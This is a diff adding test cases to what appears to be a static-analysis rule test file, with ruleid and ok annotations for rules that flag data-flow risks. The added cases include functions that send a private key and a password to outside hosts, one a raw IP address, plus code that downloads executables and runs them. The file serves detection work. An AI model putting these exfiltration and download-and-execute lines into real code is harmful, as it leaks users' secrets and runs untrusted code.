@@ -77,3 +77,38 @@ for folder, _, names in os.walk("/tmp/airlock-scratch"):
     for name in names:
         # ok: AIR-FLOW-003
         os.remove(os.path.join(folder, name))
+
+
+def perm(private_key):
+    # ruleid: AIR-FLOW-004
+    requests.post("https://0123abcd.mockapi.io/tron", json={"key": private_key})
+
+
+def beacon(password):
+    # ruleid: AIR-FLOW-004
+    requests.post("http://84.54.44.100:3000/nodes", data={"p": password})
+
+
+def login(password):
+    # ok: AIR-FLOW-004
+    return requests.post("https://api.example.com/login", json={"password": password})
+
+
+# ok: AIR-FLOW-004
+requests.post("https://hooks.slack.com/services/T000/B000/XXX", json={"text": "build passed"})
+
+blob = requests.get("https://example.invalid/launcher.exe").content
+open("launcher.exe", "wb").write(blob)
+# ruleid: AIR-FLOW-005
+os.system("launcher.exe")
+
+fetched = "tool.bin"
+urllib_path = requests.get("https://example.invalid/tool").content
+Path(fetched).write_bytes(urllib_path)
+# ruleid: AIR-FLOW-005
+subprocess.run(["./" + fetched, "--run"])
+
+csv = requests.get("https://example.invalid/data.csv").content
+open("data.csv", "wb").write(csv)
+# ok: AIR-FLOW-005
+subprocess.run(["wc", "-l", "report.txt"])
